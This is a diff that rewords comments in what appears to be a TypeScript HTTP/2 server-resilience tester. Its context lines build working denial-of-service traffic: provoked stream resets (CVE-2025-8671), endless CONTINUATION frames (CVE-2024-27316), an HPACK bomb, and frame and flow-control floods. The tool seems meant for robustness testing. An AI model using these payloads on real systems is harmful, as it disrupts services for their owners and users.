@@ -29,7 +29,7 @@ function fields(
   return requestFields(dialect, options);
 }
 
-/** Sends pieces until so many bytes have left, the server ends the connection, or time is over. */
+/** Sends pieces until this many bytes are sent, the server closes the connection, or the time has passed. */
 async function flood(
   connection: RawHttp2,
   piece: (index: number) => Buffer,
@@ -52,7 +52,10 @@ function report(connection: RawHttp2, sent: number, findings: readonly string[] 
   return { findings, note: `${Math.round(sent / 1024)} KiB, ${end}` };
 }
 
-/** Resets that a client provokes instead of sending them (CVE-2025-8671), each on a stream whose call has begun. */
+/**
+ * Frames that make the server reset a stream, so that the client need not (CVE-2025-8671). Each targets a stream whose call has
+ * started.
+ */
 const provocations: Readonly<Record<string, (stream: number) => Buffer>> = {
   "window-update-0": (stream) => Buffer.concat([begun(stream), windowUpdate(stream, 0)]),
   "window-overflow": (stream) => Buffer.concat([begun(stream), windowUpdate(stream, 0x7fffffff)]),
@@ -82,17 +85,17 @@ const provocations: Readonly<Record<string, (stream: number) => Buffer>> = {
   "too-large-headers": (stream) => headers(stream, fields({ ...getProduct, more: [["x-pad", "a".repeat(16_300)]] })),
 };
 
-/** A call that takes little of the server: what is attacked is how resets are counted. */
+/** A cheap call: the attack targets the accounting of resets. */
 function begun(stream: number): Buffer {
   return Buffer.concat([headers(stream, fields(listProducts)), data(stream, '{"pageSize":1}')]);
 }
 
-/** A call whose answer of 40 KB waits for the window of its connection once others have used it up. */
+/** A call with a response of 40 KB, which is blocked by flow control once others have used up the connection's window. */
 function waiting(stream: number): Buffer {
   return Buffer.concat([headers(stream, fields(listProducts)), data(stream, '{"pageSize":20}')]);
 }
 
-/** How many calls one connection may have reset before the server must have had enough. */
+/** The server must close a connection before this many reset calls. */
 const resetsMax = 20_000;
 
 async function provoke(
@@ -108,7 +111,7 @@ async function provoke(
     const batch: Buffer[] = [];
     for (let index = 0; index < 50; index++) batch.push(make(1 + 2 * streams++));
     await connection.send(Buffer.concat(batch), 3_000);
-    // Lets the server's answer end it.
+    // Yields, so that the server's response can end the loop.
     await pause(0, signal);
   }
   await connection.roundTrip(10_000);
@@ -116,21 +119,21 @@ async function provoke(
   return report(connection, streams * 100, endless ? [`${streams} resets provoked, and no GOAWAY`] : []);
 }
 
-/** Opens calls whose long answers wait for the window, which stays shut. */
+/** Opens calls with long responses that stay blocked by flow control. */
 async function waitingStreams(url: string, count: number, signal: AbortSignal): Promise<RawHttp2> {
   const connection = new RawHttp2(url);
   await connection.roundTrip(5_000);
   for (let index = 0; index < count && !signal.aborted; index += 30) {
     const batch = Array.from({ length: Math.min(30, count - index) }, (_, more) => waiting(1 + 2 * (index + more)));
     await connection.send(Buffer.concat(batch));
-    // So that what is measured is the flood, and not these calls' own work.
+    // Waits until these calls are processed, so that only the flood is measured.
     await connection.roundTrip(5_000);
   }
   await pause(700, signal);
   return connection;
 }
 
-/** WINDOW_UPDATEs of one byte, on the connection or on its streams, while many streams wait. */
+/** WINDOW_UPDATE frames of one byte, on the connection or on its streams, while many streams are blocked. */
 async function dribble(
   of: "connection" | "streams",
   { urls }: AttackTarget,
@@ -147,7 +150,7 @@ async function dribble(
   return report(connection, await flood(connection, piece, { bytes: scaled(1024 * 1024, scale, 254 * 1024), signal }));
 }
 
-/** SETTINGS frames full of INITIAL_WINDOW_SIZE, each of which moves the windows of all streams. */
+/** SETTINGS frames full of INITIAL_WINDOW_SIZE, each of which changes the windows of all streams. */
 async function windowChanges(
   perFrame: number,
   { urls }: AttackTarget,
@@ -162,7 +165,7 @@ async function windowChanges(
   );
 }
 
-/** The same frames over and over on one connection. */
+/** Repeats the same frames on one connection. */
 const frameFloods: Readonly<Record<string, (index: number) => Buffer>> = {
   ping: () => Buffer.concat(Array<Buffer>(800).fill(ping())),
   "ping-acknowledgements": () => Buffer.concat(Array<Buffer>(800).fill(ping("abcdefgh", 1))),
@@ -198,7 +201,7 @@ async function frames(
   );
 }
 
-/** Header blocks that cost more to read than to send, a new stream each. */
+/** Header blocks that cost more to decode than to send, each on a new stream. */
 const headerFloods: Readonly<Record<string, () => { readonly first?: Buffer; readonly block: Buffer }>> = {
   "zero-length-names": () => ({
     block: Buffer.concat([headerBlock(fields(getProduct)), Buffer.alloc(15_000, Buffer.from([0, 0, 0]))]),
@@ -206,7 +209,7 @@ const headerFloods: Readonly<Record<string, () => { readonly first?: Buffer; rea
   "zero-length-indexed-names": () => ({
     block: Buffer.concat([headerBlock(fields(getProduct)), Buffer.alloc(15_000, Buffer.from([0x40, 0, 0]))]),
   }),
-  // One entry of nearly the whole table, named by one byte each time: 16 KB become 64 MB.
+  // One entry that nearly fills the dynamic table, referenced by one byte each time: 16 KB decode to 64 MB.
   "hpack-bomb": () => ({
     first: Buffer.concat([headerBlock(fields(getProduct)), literal("x-bomb", "a".repeat(3_900), 0x40)]),
     block: Buffer.concat([headerBlock(fields(getProduct)), Buffer.alloc(15_500, prefixed(62, 7, 0x80))]),
@@ -270,7 +273,7 @@ async function headerFlood(
   );
 }
 
-/** One block of headers that never ends (CVE-2024-27316). */
+/** A header block without END_HEADERS, continued without end (CVE-2024-27316). */
 async function continuations(
   size: number,
   { urls }: AttackTarget,
@@ -289,7 +292,7 @@ async function continuations(
   );
 }
 
-/** DATA that is all padding. */
+/** DATA frames that contain only padding. */
 async function padding({ urls }: AttackTarget, { signal, scale }: AttackOptions): Promise<AttackReport> {
   const connection = new RawHttp2(urls.product);
   await connection.send(headers(1, fields(getProduct, grpc)));
